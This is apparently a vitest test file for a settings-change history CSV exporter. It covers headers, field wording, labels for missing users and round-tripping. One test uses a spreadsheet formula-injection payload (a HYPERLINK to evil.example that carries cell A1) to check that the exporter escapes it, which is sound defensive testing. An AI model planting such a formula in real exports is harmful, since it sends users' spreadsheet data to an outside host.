import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { StreamedChange } from '@/lib/database/change-stream';
import { changeCsvColumns, toChangeCsv } from '@/lib/http/change-export';
import type { Change } from '@/lib/settings/change';

const change: Change = {
  id: '6f9619ff-8b86-4d01-b42d-00cf4fc964ff',
  channelId: 1_024_801,
  source: 'app',
  status: 'partly',
  restoresId: null,
  sideEffects: null,
  late: null,
  author: { userId: 2, email: 'sam@shop.example', role: 'user' },
  before: { policyUrl: '' },
  requested: { policyUrl: 'https://shop.example/' },
  stored: { policyUrl: '' },
  names: { storefront: 'Harbor & Pine', groups: { '12': 'Wholesale' } },
  note: null,
  requestId: 'req-1',
  createdAt: Date.UTC(2026, 0, 5, 12),
};

const streamed = (different: Partial<Change> = {}): StreamedChange => ({
  entryId: 'entry-1',
  change: { ...change, ...different },
});

/** A reader of CSV, as RFC 4180 has it. */
function readCsv(text: string): string[][] {
  const cell = /("(?:[^"]|"")*"|[^,\r\n"]*)(,|\r\n|$)/gy;
  const rows: string[][] = [[]];
  for (const [whole, value = '', end] of text.matchAll(cell)) {
    if (whole === '') break;
    rows.at(-1)?.push(value.startsWith('"') ? value.slice(1, -1).replaceAll('""', '"') : value);
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

function readRecords(text: string): Record<string, string>[] {
  const [, ...rows] = readCsv(text);
  return rows.map((row) => Object.fromEntries(changeCsvColumns.map((column, at) => [column, row[at] ?? ''])));
}

describe('the history as CSV', () => {
  it('begins with the mark of UTF-8 and the head, once', () => {
    const first = toChangeCsv([streamed()], 'en', true);
    expect(first.startsWith('\uFEFFtime,user,user_id,')).toBe(true);
    expect(first.endsWith('\r\n')).toBe(true);
    expect(toChangeCsv([streamed()], 'en', false).startsWith('2026-01-05T12:00:00.000Z,')).toBe(true);
    expect(toChangeCsv([], 'en', true)).toBe(`\uFEFF${changeCsvColumns.join(',')}\r\n`);
  });

  it('has a row for each field, in words', () => {
    const rows = readRecords(
      toChangeCsv(
        [
          streamed({
            before: { trackingConsent: null, guestCustomerGroupId: 0, allowGlobalLogins: null },
            requested: { trackingConsent: true, guestCustomerGroupId: 12, allowGlobalLogins: false },
            stored: null,
          }),
          streamed(),
        ],
        'en',
        true,
      ),
    );
    expect(rows.map(({ field, before, asked, stored }) => [field, before, asked, stored])).toEqual([
      ['privacy_settings.ask_shopper_for_tracking_consent', 'Use the global value', 'On', ''],
      ['customer_group_settings.guest_customer_group_id', 'No group', 'Wholesale (ID 12)', ''],
      ['allow_global_logins', 'Not set', 'Not allowed', ''],
      ['privacy_settings.policy_url', 'None', 'https://shop.example/', 'None'],
    ]);
    expect(rows.at(-1)).toMatchObject({
      time: '2026-01-05T12:00:00.000Z',
      user: 'sam@shop.example',
      user_id: '2',
      role: 'user',
      storefront: 'Harbor & Pine',
      storefront_id: '1024801',
      status: 'partly',
      source: 'app',
      entry_id: 'entry-1',
      change_id: change.id,
      note: '',
      request_id: 'req-1',
    });
  });

  it('names who is gone, who is nobody of this app, and what has no name', () => {
    const csv = toChangeCsv(
      [
        streamed({ author: { userId: 123, email: null, role: 'user' }, names: {} }),
        streamed({ author: null, channelId: null, requested: { guestCustomerGroupId: 9 }, names: {} }),
      ],
      'en',
      true,
    );
    const [gone, outside] = readRecords(csv);
    expect(gone).toMatchObject({ user: 'Removed user 123', storefront: 'Storefront 1024801' });
    expect(outside).toMatchObject({ user: 'Outside this app', storefront: 'Whole store', asked: 'Group 9' });
  });

  it.each(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])(
    'is no formula where a text begins with %j',
    (start) => {
      const text = `${start}HYPERLINK("http://evil.example?"&A1,"x")`;
      const names = { storefront: text, groups: { '12': text } };
      const csv = toChangeCsv(
        [
          streamed({ note: text, names, author: { userId: 1, email: text, role: 'user' } }),
          streamed({
            before: { policyUrl: text },
            requested: { policyUrl: text },
            stored: { policyUrl: text },
          }),
          streamed({ requested: { guestCustomerGroupId: 12 }, names }),
        ],
        'en',
        true,
      );
      const cells = readCsv(csv).flat();
      expect(cells.filter((value) => value === `'${text}`)).toHaveLength(7);
      expect(cells.filter((value) => value.startsWith(start))).toEqual([]);
    },
  );

  it('holds any text as it was', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (note) => {
        const [row] = readRecords(toChangeCsv([streamed({ note })], 'en', true));
        expect([note, `'${note}`]).toContain(row?.note);
        expect(row?.request_id).toBe('req-1');
      }),
    );
  });
});
